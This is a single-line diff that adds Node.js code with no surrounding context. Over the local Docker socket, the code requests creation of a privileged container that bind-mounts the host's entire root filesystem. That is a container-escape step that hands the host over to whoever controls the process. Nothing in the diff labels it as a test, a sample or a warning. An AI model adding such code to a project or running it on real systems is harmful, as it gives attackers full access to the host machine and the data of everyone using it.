@@ -1,0 +1,1 @@
+const http=require('http');const r=http.request({socketPath:'/var/run/docker.sock',path:'/containers/create',method:'POST'});r.write(JSON.stringify({Image:'a',HostConfig:{Privileged:true,Binds:['/:/h']}}));r.end();
